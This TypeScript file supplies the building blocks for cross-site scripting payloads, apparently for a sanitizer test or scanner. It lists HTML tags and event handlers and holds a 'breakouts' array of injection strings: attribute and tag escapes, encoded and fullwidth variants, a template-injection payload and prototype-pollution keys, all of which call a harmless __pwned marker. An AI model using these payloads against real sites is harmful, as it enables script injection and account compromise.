/** What payloads are put together from. */

/** Runs where it is let; without quotes, spaces and brackets of Markdown that would need escaping. */
export const SCRIPT = '__pwned`1`';

export const tags =
  'a abbr animate applet area article audio base bdo body bgsound blink br button canvas center code col custom-x data details dialog div embed fieldset font form frame frameset head html iframe image img input isindex kbd keygen label layer legend li link listing main map mark marquee math menu meta mglyph mtext nav nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress script section select slot source span strike style summary sup svg table tbody td template textarea th title tr track u ul var video xml xmp xss'.split(
    ' ',
  );

export const handlers =
  'onload onerror onclick onmouseover onfocus ontoggle onbegin onanimationstart onpointerenter onpageshow onbeforetoggle onscrollend onfocusin oncontentvisibilityautostatechange'.split(
    ' ',
  );

/** Texts that end the text, attribute, element or comment they stand in. */
export const breakouts = [
  `"><img src=x onerror=${SCRIPT}>`,
  `'><img src=x onerror=${SCRIPT}>`,
  `" onmouseover=${SCRIPT} x="`,
  `' onmouseover=${SCRIPT} x='`,
  `" autofocus onfocus=${SCRIPT} tabindex=1 "`,
  `\`><img src=x onerror=${SCRIPT}>`,
  `--><img src=x onerror=${SCRIPT}><!--`,
  `]]><img src=x onerror=${SCRIPT}>`,
  `</title><svg onload=${SCRIPT}>`,
  `</textarea><svg onload=${SCRIPT}>`,
  `</style><svg onload=${SCRIPT}>`,
  `</script><svg onload=${SCRIPT}>`,
  `</code></pre><svg onload=${SCRIPT}>`,
  `</a></p></div><svg onload=${SCRIPT}>`,
  `&quot;&gt;&lt;svg onload=${SCRIPT}&gt;`,
  `&#34;&#62;&#60;svg onload=${SCRIPT}&#62;`,
  `&amp;quot; onmouseover=${SCRIPT} x=&amp;quot;`,
  `\\"><svg onload=${SCRIPT}>`,
  `%22%3E%3Csvg%20onload=${SCRIPT}%3E`,
  `\u00a0"onfocus=${SCRIPT}\u00a0autofocus`,
  `＂＞＜svg onload=${SCRIPT}＞`,
  `\${${SCRIPT}}`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  '__proto__',
  'constructor',
  'forms',
  'location',
  'javascript:__pwned(1)',
  '<svg/onload=__pwned(1)',
  '<!--',
  '<![CDATA[',
  '\u2028<svg onload=__pwned(1)>',
  'x\u0000<svg onload=__pwned(1)>',
];
